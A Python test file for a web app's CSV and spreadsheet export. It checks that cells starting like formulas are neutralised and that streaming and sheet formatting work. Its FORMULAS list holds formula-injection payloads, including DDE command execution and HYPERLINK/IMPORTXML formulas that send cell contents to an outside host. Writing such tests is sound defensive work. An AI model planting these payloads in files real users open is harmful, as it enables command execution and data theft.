import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from datetime import date

import pytest
from flask import Flask, has_request_context
from hypothesis import given, strategies as st

from app.web.table_files import Row, csv_lines, send_csv, send_sheet, without_formula, write_sheet

HEADS = ("Record", "Since", "Share")
# what spreadsheet programs have run, or opened, when a cell began like this
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " \u00a0=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://192.0.2.1/", A1), "//a")',
    "\u3000=1+1",
    "\u2060\u00ad=1+1",
    "\u202e\u2066=1+1",
    "\x0b\x0c\x1f=1+1",
    "\u3164@SUM(1)",
    '"=1+1',
]
PLAIN = ["Border guard 4", "Größe", "ورشة العمل", "a=b", "5 of 12", "a,b", 'say "so"', "two\nlines", ""]
SPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_sheet(content: bytes) -> tuple[list[list[tuple[str, str]]], ET.Element]:
    """Return the cells of a sheet with their type, and the sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = [
        [("".join(cell.itertext()), cell.get("t", "n")) for cell in row.iterfind("x:c", SPACE)]
        for row in sheet.iterfind(".//x:row", SPACE)
    ]
    return rows, sheet


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_in_a_csv_is_a_formula(formula: str) -> None:
    [_, row] = read_csv("".join(csv_lines(HEADS, [(formula, 1, "x")])))
    assert row[0].startswith("'")
    assert [row[0].replace("'", ""), *row[1:]] == [formula.replace("'", ""), "1", "x"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_in_a_sheet_is_a_formula(formula: str) -> None:
    file = io.BytesIO()
    write_sheet(file, HEADS, [(formula, 1, "x")])
    content = file.getvalue()
    rows, sheet = read_sheet(content)
    assert [kind for _, kind in rows[1]] == ["inlineStr", "n", "inlineStr"]
    assert sheet.find(".//x:f", SPACE) is None
    assert b"hyperlink" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_texts_stay_as_they_are(text: str) -> None:
    [_, row] = read_csv("".join(csv_lines(HEADS, [(text, date(2027, 3, 1), 12.5)])))
    assert row == [text, "2027-03-01", "12.5"]


@given(st.text())
def test_no_text_begins_like_a_formula(text: str) -> None:
    assert not str(without_formula(text)).lstrip().startswith(("=", "+", "-", "@"))


def test_numbers_stay_numbers() -> None:
    assert [without_formula(-5), without_formula(2.5), without_formula(None)] == [-5, 2.5, ""]


def test_csv_is_streamed(lite_app: Flask) -> None:
    seen: list[int] = []

    def rows() -> Iterator[Row]:
        for n in range(5000):
            seen.append(n)
            yield (f"record {n}", date(2027, 1, 1), n)

    with lite_app.test_request_context():
        answer = send_csv("rows", HEADS, rows())
    assert seen == []
    portions = iter(answer.iter_encoded())
    first = next(portions)
    assert first.startswith(b"\xef\xbb\xbfRecord,Since,Share\r\n")
    assert len(seen) < 1000
    assert not has_request_context()  # a half-read file leaves no request open
    text = (first + b"".join(portions)).decode()
    assert len(read_csv(text)) == 5001
    assert answer.headers["Content-Disposition"] == 'attachment; filename="rows.csv"'


@pytest.mark.parametrize("right_to_left", [False, True])
def test_sheet_has_the_same_values_and_its_direction(lite_app: Flask, right_to_left: bool) -> None:
    with lite_app.test_request_context():
        answer = send_sheet("rows", HEADS, [("سجل", date(2027, 1, 1), 12.5)], right_to_left=right_to_left)
        answer.direct_passthrough = False
        content = b"".join(answer.iter_encoded())
        answer.close()
    rows, sheet = read_sheet(content)
    assert [value for value, _ in rows[0]] == list(HEADS)
    assert rows[1] == [("سجل", "inlineStr"), ("2027-01-01", "inlineStr"), ("12.5", "n")]
    view = sheet.find(".//x:sheetView", SPACE)
    assert view is not None
    assert (view.get("rightToLeft") == "1") == right_to_left
    assert "rows.xlsx" in answer.headers["Content-Disposition"]


@given(st.lists(st.text("=+-@|%＝;,\t\n\r \"'a\u200b", max_size=8), min_size=1, max_size=4))
def test_no_cell_is_a_formula_with_another_separator(row: list[str]) -> None:
    """Programs of languages with a decimal comma split a file at semicolons or tabs, even inside quotes."""
    text = "".join(csv_lines(("Head",), [row])).removeprefix("\ufeff")
    for sign in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            for cell in line:
                assert not cell.lstrip(' "\u200b').startswith(tuple("=+-@|%＝")), (sign, text)


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf"), 10**400])
def test_number_beyond_the_range_is_written_as_text(number: float) -> None:
    file = io.BytesIO()
    write_sheet(file, ("Share",), [[number]])
    assert read_sheet(file.getvalue())[0][1] == [(str(number), "inlineStr")]


def test_forbidden_characters_are_left_out_of_a_sheet() -> None:
    file = io.BytesIO()
    write_sheet(file, ("Alias",), [["a\x00\x0b\ufffeb"]])
    rows, _sheet = read_sheet(file.getvalue())
    assert "\x00" not in rows[1][0][0]
